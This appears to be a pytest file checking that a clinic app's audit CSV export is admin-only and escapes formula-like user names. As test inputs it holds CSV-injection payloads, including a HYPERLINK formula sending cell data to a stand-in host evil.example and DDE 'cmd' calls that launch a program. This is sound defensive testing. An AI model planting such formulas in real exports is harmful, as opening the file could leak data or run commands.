"""The audit CSV export refuses who it must (no credentials 401, other roles 403 at the route and NotAllowed at the
service, nothing exported), and a name typed at the sign-in page cannot become a spreadsheet formula in it."""

import csv
import io
from datetime import timedelta

import pytest
from nicegui.testing import User

from domain import audit, audit_export, clock, throttle
from domain.audit_filters import AuditFilter
from domain.errors import NotAllowed
from tests.conftest import Clinic

URL = '/admin/audit/export.csv'
# What attackers type as a user name so that a spreadsheet opening the export runs it (OWASP "CSV injection")
FORMULAS = (
    '=HYPERLINK("//evil.example/?x="&A1,"Open")',  # no colon: HTTP Basic ends the name at the first one
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
)


def _auth(clinic: Clinic, role: str) -> tuple[str, str]:
    return clinic.account(role).username, clinic.account(role).password


async def test_only_an_administrator_exports_the_audit_trail(screens: User, clinic: Clinic) -> None:
    assert (await screens.http_client.get(URL)).status_code == 401
    for role in ('receptionist', 'technician', 'radiologist'):
        refused = await screens.http_client.get(URL, auth=_auth(clinic, role))
        assert refused.status_code == 403, role
        assert b'dicom_event_id' not in refused.content
        with pytest.raises(NotAllowed):
            audit_export.prepare(AuditFilter(), by=clinic.account(role).actor)
    assert audit.search(by=clinic.admin.actor, action='audit.export').total == 0
    assert audit.search(by=clinic.admin.actor, action='route.denied').total == 3

    answer = await screens.http_client.get(URL, auth=_auth(clinic, 'admin'))
    assert answer.status_code == 200 and answer.content.decode('utf-8-sig').startswith('id,time_utc,user,')
    assert audit.search(by=clinic.admin.actor, action='audit.export').total == 1


async def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_csv(screens: User, clinic: Clinic) -> None:
    for name in (*FORMULAS, 'quote " and, comma'):
        clock.advance(timedelta(minutes=throttle.ADDRESS_WINDOW_MINUTES + 1))  # each a first failure from the address
        refused = await screens.http_client.get('/dicomweb/studies', auth=(name, 'not the password'))
        assert refused.status_code == 401
    answer = await screens.http_client.get(f'{URL}?action=login&outcome=failure', auth=_auth(clinic, 'admin'))
    assert answer.status_code == 200
    names = [row['user'] for row in csv.DictReader(io.StringIO(answer.content.decode('utf-8-sig')))]
    typed = [name.strip().lower() for name in FORMULAS]  # a failed sign-in records the name as it is counted
    assert sorted(names) == sorted([f"'{name}" for name in typed] + ['quote " and, comma'])
    assert not [name for name in names if name.startswith(audit_export.FORMULA_STARTS)]


def test_every_text_cell_is_guarded_and_harmless_text_is_left_alone() -> None:
    assert [audit_export.cell(value) for value in ('=1+1', '+1', '-1', '@a', '\tx', '\rx')] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
    ]
    assert [audit_export.cell(value) for value in ('admin1', 'a=b', 7, None, '')] == ['admin1', 'a=b', '7', '', '']
